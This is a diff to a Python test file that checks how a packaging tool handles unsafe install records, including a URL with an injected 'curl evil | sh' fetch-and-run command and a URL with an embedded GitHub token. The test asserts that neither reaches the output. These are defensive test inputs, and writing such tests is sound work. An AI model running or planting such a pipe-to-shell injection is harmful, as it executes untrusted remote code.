@@ -52,6 +52,7 @@ def test_a_git_install_from_a_subdirectory_keeps_it() -> None:
         {"url": "https://downloads.example.org/factcheck.whl", "archive_info": {}},  # no hash to check it by
         {"url": 'https://example.org/x"; curl evil | sh', "archive_info": {"hash": "sha256=" + "a" * 64}},  # not writable into the shell line
         {"url": "https://example.org/\x1b[31mred", "archive_info": {}},
+        {"url": "https://bot:ghp_token@github.com/newsroom/factcheck", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},  # a credential
         {"vcs_info": {}},
     ],
 )
@@ -60,7 +61,7 @@ def test_anything_ci_cannot_install_gets_a_placeholder_that_fails_and_a_warning(
     made = origin_from(json.dumps(data), "1.2.0")
     assert made.requirement == PLACEHOLDER == "factcheck-ssg @ git+https://github.com/ORG/REPO@TAG"
     assert "which the site's GitHub workflows cannot install" in made.warning and "--requirement" in made.warning
-    assert "\x1b" not in made.warning
+    assert "\x1b" not in made.warning and "ghp_token" not in made.warning
 
 
 def test_an_unreadable_record_gets_the_placeholder_too() -> None:
